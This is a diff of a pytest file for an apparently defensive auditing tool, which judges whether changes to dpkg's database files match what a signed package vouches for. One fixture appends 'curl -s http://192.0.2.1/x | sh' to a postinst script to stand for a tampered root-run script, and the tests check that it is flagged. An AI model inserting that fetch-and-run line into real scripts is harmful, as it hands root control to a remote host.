@@ -6,23 +6,34 @@ import pytest
 from blake3 import blake3
 
 from auditkit.derived import Known, records
-from auditkit.explain import Account, Claim
-from auditkit.model import Change, ChangeKind, Entry, Kind, Level, Severity
-from auditkit.packages import Manifest, Package, Shipped
+from auditkit.explain import Account
+from auditkit.model import Change, ChangeKind, Entry, Explanation, Kind, Level, Severity
+from auditkit.packages import Shipped
 
 KEY, OLD, NEW = "demo:amd64", "1", "2"
 POSTINST = "#!/bin/sh\nldconfig\n"
 CONFIG = "#!/bin/sh\n. /usr/share/debconf/confmodule\n"
-SCRIPTS = f"# preinst\n#!/bin/sh\nset -e\n\n# postinst\n{POSTINST}\n# config\n{CONFIG}\n"
 PLANTED = POSTINST + "curl -s http://192.0.2.1/x | sh\n"
 LIST = "/.\n/usr\n/usr/bin\n/usr/bin/demo\n/etc/demo.conf\n"
-PATHS = ("/usr", "/usr/bin", "/usr/bin/demo")
-FILES = (*(Shipped(path, None) for path in PATHS), Shipped("/etc/demo.conf", Kind.FILE, config=True))
+KEPT = {
+    "preinst": "#!/bin/sh\nset -e\n",
+    "postinst": POSTINST,
+    "config": CONFIG,
+    "list": LIST,
+    "conffiles": "/etc/demo.conf\n",
+    "md5sums": "0123456789abcdef0123456789abcdef  usr/bin/demo\n",
+}
+LOGGED = {(KEY, NEW): "2026-11-20 10:12", (KEY, OLD): "2026-10-20 10:12"}
+
+
+def digest(text: str) -> str:
+    return f"blake3:{blake3(text.encode()).hexdigest()}"
 
 
 def account(proof: str = "signed", now: str = NEW) -> Account:
-    manifest = Manifest(Package("dpkg", "demo", now, "amd64"), FILES, proof, "InRelease", SCRIPTS)
-    return Account({KEY: OLD}, {KEY: now}, now={"/usr/bin/demo": (Claim(manifest, FILES[2]),)})
+    control = tuple(Shipped(name, Kind.FILE, size=len(text), digests=(digest(text),)) for name, text in KEPT.items())
+    known = Account({KEY: OLD}, {KEY: now}, doers=LOGGED)
+    return replace(known, vouched={KEY}, control={KEY: control}) if proof == "signed" else known
 
 
 def told(name: str, text: str, known: Account, was: str | None = "other\n") -> tuple[str, Severity, str, str | None]:
@@ -30,10 +41,8 @@ def told(name: str, text: str, known: Account, was: str | None = "other\n") -> t
     path = f"/var/lib/dpkg/{name}"
 
     def entry(held: str) -> Entry:
-        digest = f"blake3:{blake3(held.encode()).hexdigest()}"
-        return Entry(
-            path, Kind.FILE, 0o755, 0, 0, "root", "root", len(held), 1, 1, 1, 7, 1, digests=(digest,), flags="", xattrs=()
-        )
+        who = (0o755, 0, 0, "root", "root")
+        return Entry(path, Kind.FILE, *who, len(held), 1, 1, 1, 7, 1, digests=(digest(held),), flags="", xattrs=())
 
     same = was == text
     attributes = ("mtime", "ctime") if same else ("digest", "mtime")
@@ -47,7 +56,7 @@ def told(name: str, text: str, known: Account, was: str | None = "other\n") -> t
         Level.CONTENT,
         "content-changed",
     )
-    host = Known({path: change}, known, files={path: text.encode()})
+    host = Known({path: change}, known)
     records.judge(host)
     after = host.changes[path]
     proof = after.explanation.proof if after.explanation else None
@@ -63,13 +72,14 @@ def told(name: str, text: str, known: Account, was: str | None = "other\n") -> t
         ("info/demo:amd64.postinst", POSTINST),
         ("info/demo.list", LIST),
         ("info/demo.conffiles", "/etc/demo.conf\n"),
+        ("info/demo.md5sums", KEPT["md5sums"]),
     ],
 )
 def test_what_the_signed_package_has_is_proved(name: str, text: str) -> None:
     assert told(name, text, account())[3] == "signed"
 
 
-@pytest.mark.parametrize("text", [PLANTED, "", POSTINST[:-1], SCRIPTS, "#!/bin/sh\n"])
+@pytest.mark.parametrize("text", [PLANTED, "", POSTINST[:-1], KEPT["preinst"], "#!/bin/sh\n"])
 def test_a_script_that_is_not_that_of_the_signed_package_is_worse(text: str) -> None:
     """It runs as root at the next upgrade."""
     assert told("info/demo.postinst", text, account()) == (records.SCRIPT.id, Severity.HIGH, records.SCRIPT.title, None)
@@ -98,6 +108,48 @@ def test_a_list_of_paths_that_is_not_that_of_the_signed_package_is_only_a_record
 def test_what_was_written_again_with_what_it_held_is_explained_where_its_package_changed() -> None:
     assert told("info/demo.prerm", PLANTED, account("local"), PLANTED)[3] == "local"
     assert told("info/other.prerm", PLANTED, account("local"), PLANTED)[3] is None
+
+
+def gone(kind: str, known: Account) -> str | None:
+    """The proof of a file of dpkg's database that is gone."""
+    path = f"/var/lib/dpkg/info/demo.{kind}"
+    before = Entry(path, Kind.FILE, 0o755, 0, 0, size=1, digests=("blake3:00",))
+    change = Change(path, ChangeKind.REMOVED, before, None, (), Severity.MEDIUM, Level.CONTENT, "path-removed")
+    host = Known({path: change}, known)
+    records.judge(host)
+    explanation = host.changes[path].explanation
+    return explanation.proof if explanation else None
+
+
+def test_a_file_of_dpkg_s_that_is_gone_though_its_package_has_it_is_left() -> None:
+    """Without its sums nobody sees what was done to the files; without its script nothing is cleared away."""
+    assert (gone("md5sums", account()), gone("postinst", account())) == (None, None)
+    assert (gone("prerm", account()), gone("prerm", account("local"))) == ("signed", "local")
+    assert gone("prerm", account("local", now=OLD)) is None
+
+
+def test_a_package_that_is_only_in_the_status_file_makes_no_record_regular() -> None:
+    """Whoever invents one changes the status file, and may change what he likes beside it."""
+    for known in (account(), account("local")):
+        invented = replace(known, installed={KEY: NEW, "fake:all": "1"})
+        assert told("status", "x", invented)[:2] == ("content-changed", Severity.MEDIUM)
+    made_up = replace(account(), installed={KEY: "9"}, vouched={"other:all"})
+    assert told("status", "x", made_up)[:2] == ("content-changed", Severity.MEDIUM)
+
+
+def test_an_old_configuration_for_other_eyes_is_left() -> None:
+    """What only root could read may be put where everybody can, beside the file that an upgrade wrote anew."""
+    mine = Entry("/etc/x", Kind.FILE, 0o600, 0, 0, size=1, digests=("blake3:00",), flags="", xattrs=())
+    new = replace(mine, digests=("blake3:01",))
+    settled = Explanation("package", "demo 1 → 2", "signed")
+    change = Change("/etc/x", ChangeKind.CHANGED, mine, new, ("digest",), Severity.HIGH, Level.CONTENT, "content-changed")
+    for mode, proof in ((0o600, "signed"), (0o644, None)):
+        old = replace(mine, path="/etc/x.dpkg-old", mode=mode)
+        added = replace(change, path=old.path, change=ChangeKind.ADDED, before=None, after=old, attributes=())
+        host = Known({"/etc/x": replace(change, explanation=settled), old.path: added}, account())
+        records.judge(host)
+        explanation = host.changes[old.path].explanation
+        assert (explanation.proof if explanation else None) == proof
 
 
 @pytest.mark.parametrize("name", ["status", "status-old", "triggers/File", "info/demo.md5sums", "info/demo.shlibs"])
